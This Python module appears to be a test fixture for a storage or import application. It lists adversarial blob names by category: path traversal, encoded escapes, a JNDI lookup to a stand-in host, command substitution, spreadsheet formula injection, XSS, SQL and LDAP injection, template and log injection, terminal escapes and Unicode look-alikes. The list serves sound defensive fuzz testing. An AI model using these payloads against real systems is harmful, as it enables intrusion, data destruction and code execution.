"""Names of blobs that were chosen to do harm somewhere, by the harm that they are meant for."""

from collections.abc import Mapping, Sequence
from itertools import chain
from typing import Final


_CONTROL: Final = [chr(code) for code in (*range(1, 32, 3), 127, *range(0x80, 0xA0, 8))]

NAMES: Final[Mapping[str, Sequence[str]]] = {
    "paths": (
        *("..", ".", "../x", "../../x", "a/../x", "a/../../x", "a/./x", "/x", "//x", "///", "x/"),
        *("a//b", "./x", "..\\x", "..\\..\\x", "a\\b", "\\\\host\\share\\x", "C:\\x", "C:x"),
        *("/etc/passwd", "file:///etc/passwd", "~/x", "~root", "-rf", "--help", "x/.", "x/.."),
        *(".../x", "..;/x", "..\u2215x", "\u2024\u2024/x", "\uff0e\uff0e/x", "\uff0f..\uff0fx"),
        *("../state/active/x.json", "../reports/x/report.ndjson", "..//state//slots//hub-a.json"),
        *("state/active/x.json", "work/x", "reports/x/report.ndjson", "imp-x-a1/devices.txt"),
        *("x" * 200 + "/" + "y" * 200, "/".join("abcdefghij" * 5), "../" * 40 + "x"),
    ),
    "escapes": (
        *("%2e%2e/x", "%2e%2e%2fx", "..%2fx", "..%5cx", "%252e%252e%252fx", "%c0%ae%c0%ae/x"),
        *(
            "%00",
            "x%00.txt",
            "%0d%0aX-Header: 1",
            "%0a",
            "%",
            "%%",
            "%zz",
            "%u002e",
            "&#46;&#46;/",
        ),
        *("&amp;", "&lt;x&gt;", "\\u002e\\u002e/", "\\x2e", "x%20y", "x+y", "x%2by", "%E2%80%AE"),
    ),
    "addresses": (
        *("x?y=z", "x#y", "x?sv=1&se=2&sr=b", "?comp=list", "?restype=container&comp=list", "#"),
        *("http://evil.example/x", "//evil.example/x", "x@evil.example", "x:80", "[::1]", "x;y"),
        *("x&y", "x=y", "*", "x*", "x,y", "'x'", '"x"', "`x`", "x|y", "<x>", "(x)", "!x", "$x"),
    ),
    "bindings and formats": (
        *("{name}", "{0}", "{}", "{{x}}", "{file.container}", "%s", "%d%n", "%(name)s", "${HOME}"),
        *("$(id)", "`id`", "%DeviceFiles%", "%POLL_SCHEDULE%", "{{7*7}}", "#{7*7}", "<%= 7*7 %>"),
        *(
            "${jndi:ldap://evil.example/x}",
            "[auto]",
            "{queueTrigger}",
            "{rand-guid}",
            "{datetime}",
        ),
    ),
    "spreadsheets, pages and queries": (
        *("=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=1+1", "\t=1", "=HYPERLINK(1)"),
        *(
            "<script>alert(1)</script>",
            "<img src=x onerror=y>",
            "javascript:x",
            "data:text/html,x",
        ),
        *("' OR '1'='1", "'; DROP TABLE x;--", '" OR ""="', "x' --", "x\\'", "*)(uid=*))(|(uid=*"),
        *("a'b\"c", "]]>", "<!--", "<![CDATA[x]]>", "<?xml?>", "&x;", '{"id":"a"}', "[1,2]"),
    ),
    "control characters": (*_CONTROL, *(f"x{one}y" for one in _CONTROL[:4])),
    "lines in logs": (
        *("x\ny", "x\r\ny", "x\ry", "x\u2028y", "x\u2029y", "x\x85y", "x\x0by", "x\x0cy"),
        *("x\nERROR import.failed id=1", "x\n\n", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07"),
        *("\x1b[2J\x1b[H", "\b\b\b\b", "x\x1cy\x1dz", "\x9b31m", "\x00"[1:] + "\x7fx"),
    ),
    "what looks like something else": (
        *(
            "\u202etxt.x",
            "\u202ax\u202c",
            "\u2066x\u2069",
            "x\u200by",
            "x\u200d",
            "\ufeffx",
            "\u00a0",
        ),
        *("\u0430dmin", "\u1e9e", "\u0130", "i\u0307", "\ufb01", "e\u0301", "\u00e9", "\u212a"),
        *(
            "\U0001f4a9",
            "\U0001f469\u200d\U0001f4bb",
            "\U000e0041",
            "\U0010ffff",
            "\ufffd",
            "\ufffe",
        ),
        *(
            "\u3000x",
            " x",
            "x ",
            " ",
            "  ",
            "x.",
            "x..",
            "x. ",
            ".",
            "...",
            "con",
            "NUL",
            "aux.txt",
        ),
        *("z" + "\u0300" * 300, "\u0644\u0627", "\u05d0\u05d1", "\u0e01\u0e33", "\ufdfa" * 10),
    ),
    "lengths": (
        *("x" * 255, "x" * 256, "x" * 1000, "x" * 1014, "é" * 400, "\U0001f4a9" * 200),
        *("a/" * 100 + "x", "x" * 500 + "/" + "y" * 500, "%" * 300, "." * 500, "=" * 500),
    ),
    "what the app writes itself": (
        *("configurations.txt", "x.configurations.txt", ".gz", ".csv", ".json.gz", "x.txt.gz.gz"),
        *(
            "importErrors.log",
            "devices.txt",
            "retry.ndjson",
            "report.ndjson",
            "access-check",
            "null",
        ),
        *("None", "undefined", "true", "0", "-1", "1e999", "NaN", "__proto__", "constructor"),
    ),
}

#: Names that a storage of this kind does not take, or cannot list.
REFUSED: Final = ("\0", "x\0y", "x\0.txt", "\0/../x")
ALL: Final = tuple(dict.fromkeys(chain.from_iterable(NAMES.values())))
